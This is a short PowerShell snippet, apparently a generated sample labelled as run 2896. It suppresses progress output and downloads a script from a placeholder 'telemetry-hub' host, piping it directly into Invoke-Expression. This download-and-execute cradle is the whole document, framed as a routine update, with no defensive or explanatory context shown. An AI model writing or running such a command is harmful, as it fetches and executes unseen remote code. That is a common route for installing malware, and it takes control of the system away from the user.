# run 2896 v4
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://api.telemetry-hub.example/update.ps1 | iex
